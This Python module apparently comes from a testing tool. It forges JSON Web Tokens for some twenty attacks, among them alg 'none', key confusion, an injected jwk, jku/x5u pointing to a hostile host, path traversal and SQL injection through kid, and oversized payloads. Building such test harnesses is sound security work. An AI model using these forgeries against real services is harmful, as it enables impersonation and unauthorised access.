"""Each attack's token, made from a real one. Pure: nothing is sent here, and nothing is kept.

Whoever signs, signs honestly; what is forged is what the token says of itself, or whose token it claims to be.
"""

from __future__ import annotations

import hmac
import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import jwt

from .compact import encoded
from .guesses import weak_secret
from .means import Means, Real, named, public_pem, signature_of, signed_by, signed_by_the_site, site_key
from .naive_keys import PUBLIC_TEXT

LOOT = {"username": "teacher", "role": "staff"}  # who an attacker would like to be
HOUR = 60 * 60
HUGE = 40 * 1024  # letters. In base64url it becomes a third more, and still fits into a header
DEEP = 20_000  # brackets
PUBLIC_FILE = "../public/robots.txt"  # beside the folder with the keys of `naive_keys.py`, and known to everybody

INJECTED = "' UNION SELECT 'attacker' --"


@dataclass(frozen=True)
class Forged:
    """A token, and how it differs in words. `words` tells several of one attack apart."""

    token: str
    signature: str
    words: str = ""


def with_loot(real: Real) -> dict[str, Any]:
    """Return the claims of the real token, in the name of somebody else."""
    return real.parts.claims | LOOT


def by_hmac(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    """Sign with HS256. PyJWT refuses secrets that look like a public key; who attacks has no such scruples."""
    data = f"{encoded(header)}.{encoded(claims)}"
    return f"{data}.{encoded(hmac.digest(secret, data.encode(), 'sha256'))}"


# ---- Without any key


def chatty(claims: dict[str, Any]) -> str:
    """Return a token as the naive service issues it: all that it knows of its user is in it, for everybody to read."""
    known = {"email": f"{claims.get('username', '')}@example.com", "pin": "4711", "note": "wants a refund"}
    return by_hmac({"alg": "HS256", "typ": "JWT"}, claims | known, weak_secret().encode())


def readable(real: Real, means: Means) -> list[Forged]:
    """Nothing is forged: the naive service has put a PIN in."""
    return [Forged(chatty(real.parts.claims), "the naive service's own")]


def unsigned(*spellings: str) -> Callable[[Real, Means], list[Forged]]:
    """Say that nobody has signed it (RFC 7518 §3.6), in these spellings."""

    def forge(real: Real, means: Means) -> list[Forged]:
        payload = encoded(with_loot(real))
        return [
            Forged(
                f"{encoded(real.parts.header | {'alg': alg})}.{payload}.",
                "none",
                f"alg: {json.dumps(alg)}" if len(spellings) > 1 else "",
            )
            for alg in spellings
        ]

    return forge


def stripped(real: Real, means: Means) -> list[Forged]:
    """Leave the algorithm as it is and send no signature."""
    return [Forged(f"{encoded(real.parts.header)}.{encoded(with_loot(real))}.", "cut off")]


def changed(real: Real, means: Means) -> list[Forged]:
    """Change the payload and keep the signature."""
    signature = real.access.rpartition(".")[2]
    return [Forged(f"{encoded(real.parts.header)}.{encoded(with_loot(real))}.{signature}", "of the real token")]


def duplicates(real: Real, means: Means) -> list[Forged]:
    """Write two claims a second time, behind the first: which of the two counts?"""
    header, _, signature = real.access.split(".")
    payload = real.parts.payload[:-1] + b"," + json.dumps(LOOT, separators=(",", ":")).encode()[1:]
    return [Forged(f"{header}.{encoded(payload)}.{signature}", "of the real token")]


def huge(real: Real, means: Means) -> list[Forged]:
    """Make it so large that somebody has work with it."""
    header, _, signature = real.access.split(".")
    return [Forged(f"{header}.{encoded(with_loot(real) | {'pad': 'x' * HUGE})}.{signature}", "of the real token")]


def nested(real: Real, means: Means) -> list[Forged]:
    """Put thousands of brackets into one another."""
    header, _, signature = real.access.split(".")
    payload = real.parts.payload[:-1] + b',"deep":' + b"[" * DEEP + b"]" * DEEP + b"}"
    return [Forged(f"{header}.{encoded(payload)}.{signature}", "of the real token")]


# ---- With a key that should not count


def by_guessed_secret(real: Real, means: Means) -> list[Forged]:
    """Sign with the secret that was guessed."""
    token = by_hmac({"alg": "HS256", "typ": "JWT"}, with_loot(real), means.weak_secret.encode())
    return [Forged(token, "made with the guessed secret")]


def confusion(real: Real, means: Means) -> list[Forged]:
    """Take the public key for a shared secret (RFC 8725 §2.1). It is public, so the attacker has it, too."""
    header = real.parts.header | {"alg": "HS256"}
    return [Forged(by_hmac(header, with_loot(real), public_pem(real.jwk)), "made with the public key as a secret")]


def own_jwk(real: Real, means: Means) -> list[Forged]:
    """Send the key along that verifies the signature: the attacker's (RFC 7515 §4.1.3)."""
    public = jwt.get_algorithm_by_name("RS256").to_jwk(means.own_key.public_key(), as_dict=True)
    header = real.parts.header | {"alg": "RS256", "jwk": {name: public[name] for name in ("kty", "n", "e")}}
    return [Forged(signed_by(means.own_key, "RS256", header, with_loot(real)), "made with the attacker's own key")]


def address(member: str, path: str) -> Callable[[Real, Means], list[Forged]]:
    """Name an address of the attacker's, where the key is to be fetched (RFC 7515 §4.1.2, §4.1.5)."""

    def forge(real: Real, means: Means) -> list[Forged]:
        header = {"alg": "RS256", "typ": "JWT", "kid": real.parts.header["kid"], member: f"{means.hostile}{path}"}
        return [Forged(means.hostile_signs(header, with_loot(real)), "made with the hostile pages' key")]

    return forge


def kid_path(real: Real, means: Means) -> list[Forged]:
    """Name a file as the key whose content everybody knows."""
    header = {"alg": "HS256", "typ": "JWT", "kid": PUBLIC_FILE}
    return [Forged(by_hmac(header, with_loot(real), PUBLIC_TEXT), "made with the content of that file")]


def kid_sql(real: Real, means: Means) -> list[Forged]:
    """Let the database answer with a key of the attacker's choice."""
    header = {"alg": "HS256", "typ": "JWT", "kid": INJECTED}
    return [Forged(by_hmac(header, with_loot(real), b"attacker"), "made with the word in the statement")]


# ---- Really signed by the site, and still not good here


def wrong_type(real: Real, means: Means) -> list[Forged]:
    """Send the refresh token where an access token belongs."""
    return [Forged(real.refresh, "by the site")]


def claiming(**changes: Any) -> Callable[[Real, Means], list[Forged]]:
    """Change these claims. A number is added to the time of now; `None` leaves the claim out."""

    def forge(real: Real, means: Means) -> list[Forged]:
        now = int(time.time())
        new = {name: now + value if isinstance(value, int) else value for name, value in changes.items()}
        payload = {name: value for name, value in (real.parts.claims | new).items() if value is not None}
        return [Forged(signed_by_the_site(real.parts.header, payload), "by the site")]

    return forge


def headed(**more: Any) -> Callable[[Real, Means], list[Forged]]:
    """Add these members to the header."""
    return lambda real, means: [Forged(signed_by_the_site(real.parts.header | more, real.parts.claims), "by the site")]


def unencoded(real: Real, means: Means) -> list[Forged]:
    """Say that the payload is no base64url (RFC 7797). It only looks like some: the site signed it as plain text."""
    data = f"{encoded(named(real.parts.header) | {'b64': False, 'crit': ['b64']})}.{encoded(with_loot(real))}"
    signature = encoded(signature_of(*site_key(), data))
    return [Forged(f"{data}.{signature}", "by the site, over a text that somebody gave it to sign")]


FORGERS: dict[str, Callable[[Real, Means], list[Forged]]] = {
    "readable-payload": readable,
    "alg-none": unsigned("none"),
    "weak-secret": by_guessed_secret,
    "key-confusion": confusion,
    "wrong-token-type": wrong_type,
    "stripped-signature": stripped,
    "changed-payload": changed,
    "none-spelled-otherwise": unsigned("None", "NONE", "nOnE", " none"),
    "jwk-in-header": own_jwk,
    "jku-in-header": address("jku", "/jwks.json"),
    "x5u-in-header": address("x5u", "/certificate.pem"),
    "kid-as-path": kid_path,
    "kid-as-sql": kid_sql,
    "expired": claiming(iat=-2 * HOUR, exp=-HOUR),
    "not-yet": claiming(nbf=HOUR),
    "wrong-audience": claiming(aud="another-api"),
    "wrong-issuer": claiming(iss="https://another-issuer.example"),
    "id-token": claiming(aud="an-app", nonce="n-0S6_WzA2Mj", token_type=None, role=None, jti=None),
    "duplicate-claims": duplicates,
    "huge": huge,
    "deeply-nested": nested,
    "unknown-crit": headed(crit=["only-by-orders"], **{"only-by-orders": True}),
    "b64-false": unencoded,
}
"""Every attack by its slug."""
